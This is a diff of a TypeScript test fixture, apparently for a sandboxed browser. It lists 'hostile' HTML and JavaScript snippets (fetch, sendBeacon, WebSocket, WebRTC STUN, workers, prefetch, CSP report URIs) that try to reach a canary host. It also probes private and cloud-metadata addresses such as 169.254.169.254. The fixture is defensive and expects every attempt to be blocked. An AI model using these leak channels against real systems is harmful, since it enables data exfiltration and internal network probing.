@@ -51,20 +51,27 @@ export const CARRIERS: readonly Hostile[] = [
   carrier("video", `<video src="${AT}/video" autoplay muted></video>`),
   carrier("video-poster", `<video poster="${AT}/poster"></video>`),
   carrier("audio", `<audio src="${AT}/audio" preload="auto"></audio>`),
-  carrier("track", `<video src="data:video/mp4," crossorigin><track default kind="subtitles" src="${AT}/track"></video>`, {
-    script: 'document.querySelector("track").track.mode = "showing";',
-  }),
+  carrier(
+    "track",
+    `<video src="data:video/mp4," crossorigin><track default kind="subtitles" src="${AT}/track"></video>`,
+    {
+      script: 'document.querySelector("track").track.mode = "showing";',
+    },
+  ),
   carrier("input-image", `<input type="image" src="${AT}/input">`),
   carrier("svg-image", `<svg><image href="${AT}/svg" width="9" height="9"></image></svg>`),
   quiet("icon", `<link rel="icon" href="${AT}/icon">`),
   quiet("manifest", `<link rel="manifest" href="${AT}/manifest">`),
   carrier("prefetch", "", { head: `<link rel="prefetch" href="${AT}/prefetch">` }),
-  carrier("preconnect", "", { head: `<link rel="preconnect" href="${AT}/">` }),
+  quiet("preconnect", `<link rel="preconnect" href="${AT}/">`),
   quiet("dns-prefetch", `<link rel="dns-prefetch" href="http://canary.invalid/">`),
   carrier("preload", "", { head: `<link rel="preload" as="image" href="${AT}/preload">` }),
   carrier("modulepreload", "", { head: `<link rel="modulepreload" href="${AT}/modulepreload">` }),
   quiet("prerender", `<link rel="prerender" href="${AT}/prerender">`),
-  quiet("speculation-rules", `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${AT}/speculated"],"eagerness":"immediate"}],"prerender":[{"source":"list","urls":["${AT}/prerendered"],"eagerness":"immediate"}]}</script>`),
+  quiet(
+    "speculation-rules",
+    `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${AT}/speculated"],"eagerness":"immediate"}],"prerender":[{"source":"list","urls":["${AT}/prerendered"],"eagerness":"immediate"}]}</script>`,
+  ),
   carrier("link-header", "", { headers: { link: `<${AT}/header>; rel=preload; as=image` } }),
   carrier("csp-report", `<img src="/blocked" alt="">`, {
     headers: { "content-security-policy": `img-src 'none'; report-uri ${AT}/report` },
@@ -79,21 +86,33 @@ export const CARRIERS: readonly Hostile[] = [
   scripted("location", `location = "${AT}/location";`),
   scripted("fetch", `fetch("${AT}/fetch").catch(function () {});`),
   scripted("fetch-no-cors", `fetch("${AT}/no-cors", { mode: "no-cors" }).catch(function () {});`),
-  scripted("fetch-post", `fetch("${AT}/posted", { method: "POST", mode: "no-cors", body: "x" }).catch(function () {});`),
+  scripted(
+    "fetch-post",
+    `fetch("${AT}/posted", { method: "POST", mode: "no-cors", body: "x" }).catch(function () {});`,
+  ),
   scripted("fetch-keepalive", `fetch("${AT}/keepalive", { keepalive: true, mode: "no-cors" }).catch(function () {});`),
-  scripted("fetch-at-leaving", `addEventListener("pagehide", function () { fetch("${AT}/leaving", { keepalive: true, mode: "no-cors" }); });
-setTimeout(function () { location = "/hostile/carrier-fetch-at-leaving/next"; }, 300);`),
+  scripted(
+    "fetch-at-leaving",
+    `addEventListener("pagehide", function () { fetch("${AT}/leaving", { keepalive: true, mode: "no-cors" }); });
+setTimeout(function () { location = "/hostile/carrier-fetch-at-leaving/next"; }, 300);`,
+  ),
   scripted("xhr", `const asked = new XMLHttpRequest(); asked.open("GET", "${AT}/xhr"); asked.send();`),
   scripted(
     "xhr-sync",
     `const asked = new XMLHttpRequest(); asked.open("GET", "${AT}/xhr", false); try { asked.send(); } catch {}`,
   ),
   scripted("beacon", `navigator.sendBeacon("${AT}/beacon", "x");`),
-  scripted("beacon-at-leaving", `addEventListener("pagehide", function () { navigator.sendBeacon("${AT}/leaving", "x"); });
-setTimeout(function () { location = "/hostile/carrier-beacon-at-leaving/next"; }, 300);`),
+  scripted(
+    "beacon-at-leaving",
+    `addEventListener("pagehide", function () { navigator.sendBeacon("${AT}/leaving", "x"); });
+setTimeout(function () { location = "/hostile/carrier-beacon-at-leaving/next"; }, 300);`,
+  ),
   scripted("event-source", `new EventSource("${AT}/events");`),
   scripted("web-socket", 'new WebSocket("ws://{canary}/{id}");'),
-  scripted("web-socket-in-worker", `new Worker(URL.createObjectURL(new Blob(['new WebSocket("ws://{canary}/{id}")'])));`),
+  scripted(
+    "web-socket-in-worker",
+    `new Worker(URL.createObjectURL(new Blob(['new WebSocket("ws://{canary}/{id}")'])));`,
+  ),
   scripted(
     "web-rtc-stun",
     `const peer = new RTCPeerConnection({ iceServers: [{ urls: ["stun:{canary}", "stun:127.0.0.1:{canary-port}", "stun:10.0.0.1:{canary-port}", "stun:169.254.169.254:{canary-port}"] }] });
@@ -125,7 +144,10 @@ peer.createOffer().then(async function (offer) {
   scripted("web-transport", 'try { new WebTransport("https://{canary}/{id}").ready.catch(function () {}); } catch {}', {
     reaches: "udp",
   }),
-  scripted("worker-fetch", `new Worker(URL.createObjectURL(new Blob(['fetch("${AT}/worker", { mode: "no-cors" })'])));`),
+  scripted(
+    "worker-fetch",
+    `new Worker(URL.createObjectURL(new Blob(['fetch("${AT}/worker", { mode: "no-cors" })'])));`,
+  ),
   scripted("worker-import", `new Worker(URL.createObjectURL(new Blob(['importScripts("${AT}/import")'])));`),
   scripted(
     "shared-worker",
@@ -134,7 +156,10 @@ peer.createOffer().then(async function (offer) {
   scripted("import", `import("${AT}/import").catch(function () {});`),
   scripted("worklet", `new AudioContext().audioWorklet.addModule("${AT}/worklet").catch(function () {});`),
   scripted("image-object", `new Image().src = "${AT}/image";`),
-  scripted("frame-by-script", `const frame = document.createElement("iframe"); document.body.append(frame); frame.src = "${AT}/frame";`),
+  scripted(
+    "frame-by-script",
+    `const frame = document.createElement("iframe"); document.body.append(frame); frame.src = "${AT}/frame";`,
+  ),
   scripted(
     "service-worker",
     `navigator.serviceWorker && navigator.serviceWorker.register("/hostile/carrier-service-worker/worker.js").catch(function () {});`,
@@ -149,9 +174,15 @@ peer.createOffer().then(async function (offer) {
   ),
   pressed("window-open", `window.open("${AT}/opened");`),
   pressed("window-open-then", `const other = window.open("about:blank"); if (other) other.location = "${AT}/opened";`),
-  pressed("link-pressed", `const link = document.createElement("a"); link.href = "${AT}/link"; link.target = "_blank"; link.click();`),
+  pressed(
+    "link-pressed",
+    `const link = document.createElement("a"); link.href = "${AT}/link"; link.target = "_blank"; link.click();`,
+  ),
   carrier("ping", `<a id="go" href="#" ping="${AT}/ping">More</a>`, { press: "click" }),
-  pressed("download", `const link = document.createElement("a"); link.href = "${AT}/file.zip"; link.download = ""; link.click();`),
+  pressed(
+    "download",
+    `const link = document.createElement("a"); link.href = "${AT}/file.zip"; link.download = ""; link.click();`,
+  ),
   pressed("fetch-on-press", `fetch("${AT}/pressed", { mode: "no-cors" }).catch(function () {});`),
   carrier("redirect-document", "", { status: 302, headers: { location: `${AT}/redirected` } }),
   carrier("redirect-document-post", '<form method="post" action="{self}/goes"></form>', {
@@ -202,16 +233,40 @@ export const PRIVATE: readonly Hostile[] = [
   ),
   {
     id: "private-parts",
-    html: Object.entries(NOTATIONS)
-      .map(([name, host]) => `<img src="http://${host}:{canary-port}/{id}" alt=""><iframe src="http://${host}:{canary-port}/{id}"></iframe>`)
+    html: Object.values(NOTATIONS)
+      .map(
+        (host) =>
+          `<img src="http://${host}:{canary-port}/{id}" alt=""><iframe src="http://${host}:{canary-port}/{id}"></iframe>`,
+      )
       .join("\n"),
     expects: SILENT,
     reaches: "tcp",
   },
   {
     id: "private-beyond",
-    html: ["10.0.0.1", "172.16.0.1", "192.168.0.1", "169.254.169.254", "100.100.100.200", "0.0.0.0", "0", "[::]", "[::1]", "[fd00::1]", "[fe80::1]", "[64:ff9b::7f00:42]", "metadata.google.internal", "192.0.0.1", "198.18.0.1", "224.0.0.1", "255.255.255.255"]
-      .map((host) => `<img src="http://${host}:{canary-port}/" alt=""><script async src="http://${host}/latest/meta-data/"></script>`)
+    html: [
+      "10.0.0.1",
+      "172.16.0.1",
+      "192.168.0.1",
+      "169.254.169.254",
+      "100.100.100.200",
+      "0.0.0.0",
+      "0",
+      "[::]",
+      "[::1]",
+      "[fd00::1]",
+      "[fe80::1]",
+      "[64:ff9b::7f00:42]",
+      "metadata.google.internal",
+      "192.0.0.1",
+      "198.18.0.1",
+      "224.0.0.1",
+      "255.255.255.255",
+    ]
+      .map(
+        (host) =>
+          `<img src="http://${host}:{canary-port}/" alt=""><script async src="http://${host}/latest/meta-data/"></script>`,
+      )
       .join("\n"),
     expects: "none of them is asked for, whether or not it exists; no connection to the canary",
   },
